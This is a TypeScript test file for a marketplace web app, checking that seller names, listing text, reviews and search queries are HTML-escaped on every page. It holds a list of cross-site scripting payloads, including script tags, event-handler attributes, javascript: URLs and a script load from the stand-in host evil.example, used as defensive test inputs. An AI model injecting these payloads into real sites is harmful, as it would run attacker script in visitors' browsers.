import { afterAll, beforeAll, expect, test } from 'bun:test';
import { createTestApp, registerAgent, type TestContext } from '../support/app.ts';
import { createListing } from '../support/listings.ts';
import { startSellerStub } from '../support/seller-stub.ts';
import { evmWallet, solanaWallet } from '../support/wallets.ts';

// Threat: a seller, a reviewer or a visitor's URL puts markup into a page so that a visitor's browser runs it.
const PAYLOADS = {
  name: '<script>alert(1)</script>',
  description: '"><img src=x onerror=alert(2)>',
  tag: '<svg onload=alert(3)>',
  instructions: '</p><script src=//evil.example/x.js></script>',
  seller: '<b onmouseover=alert(4)>Seller</b>',
  reviewer: "'><iframe src=javascript:alert(5)>",
  title: '<a href="javascript:alert(6)">click</a>',
  comment: '<style>body{display:none}</style>',
} as const;

let t: TestContext;
let stub: ReturnType<typeof startSellerStub>;
let paths: string[];

beforeAll(async () => {
  t = await createTestApp({ CROCHET_ALLOW_PRIVATE_UPSTREAMS: '1', CROCHET_RATE_LIMIT_GATEWAY_PER_MIN: '0', CROCHET_RATE_LIMIT_LISTING_PER_MIN: '0' });
  t.listen();
  stub = startSellerStub({ routes: { '/ok': () => Response.json({ ok: true }) } });
  const seller = await registerAgent(t.call, evmWallet(), PAYLOADS.seller);
  const listing = await createListing(t.call, seller.key, {
    name: PAYLOADS.name,
    description: PAYLOADS.description,
    tags: [PAYLOADS.tag],
    connection_instructions: PAYLOADS.instructions,
    private_endpoint_url: stub.url('/ok'),
  });
  stub.setSecrets([listing.gateway_endpoint.signing_secret]);
  const buyer = await registerAgent(t.call, solanaWallet(), PAYLOADS.reviewer);
  expect((await t.call('POST', `/api/v1/gateway/${listing.id}`, { rawBody: '{}', key: buyer.key, headers: { 'content-type': 'application/json' } })).status).toBe(200);
  const review = await t.call('POST', `/api/v1/reviews/${listing.id}`, {
    key: buyer.key,
    body: { accuracy_rating: 5, reliability_rating: 5, value_rating: 5, title: PAYLOADS.title, comment: PAYLOADS.comment },
  });
  expect(review.status).toBe(201);
  const q = encodeURIComponent('"><script>alert(7)</script>');
  paths = ['/', `/?q=${q}`, `/?q=script&sort=${q}`, `/?category=${q}`, `/listings/${listing.slug}`, `/listings/${listing.id}`, `/agents/${seller.profile.id}`, `/agents/${buyer.profile.id}`, `/listings/${q}`];
});
afterAll(async () => {
  stub.stop();
  await t.close();
});

test('seller-written and visitor-written text is escaped on every page', async () => {
  let seen = 0;
  for (const path of paths) {
    const res = await t.call('GET', path, { headers: { accept: 'text/html' } });
    expect(res.status).toBeLessThan(500);
    const text = res.text;
    // Every element in the page is one of ours: no payload element, handler or URL became markup.
    for (const tag of text.match(/<[a-z][^>]*>/gi) ?? []) {
      expect(tag).toMatch(/^<(html|head|meta|title|link|script|body|a|header|nav|ul|ol|li|main|footer|p|h[1-3]|form|div|label|input|select|option|button|span|strong|article|section|code|pre|dl|dt|dd|time|table|caption|thead|tbody|tr|th|td|img src="\/favicon\.svg")[\s>]/);
      // Attribute names outside quoted values (escaped text inside a value is inert).
      expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son[a-z]+=|\sstyle=/i);
      expect(tag).not.toMatch(/(href|src|action)="\s*(javascript:|\/\/|https?:)/i);
    }
    for (const tag of text.match(/<script\b[^>]*>/g) ?? []) expect(tag).toBe('<script type="module" src="/assets/app.js">');
    // …and they are shown as text where they belong.
    for (const payload of Object.values(PAYLOADS)) if (text.includes(Bun.escapeHTML(payload))) seen++;
  }
  // Listing page: name, description, tag, instructions, seller, reviewer, title, comment; and more elsewhere.
  expect(seen).toBeGreaterThanOrEqual(Object.keys(PAYLOADS).length);
});

test('the search box gets the visitor text back only as an attribute value', async () => {
  const res = await t.call('GET', `/?q=${encodeURIComponent('"><script>alert(7)</script>')}`, { headers: { accept: 'text/html' } });
  expect(res.text).toContain('value="&quot;&gt;&lt;script&gt;alert(7)&lt;/script&gt;"');
});
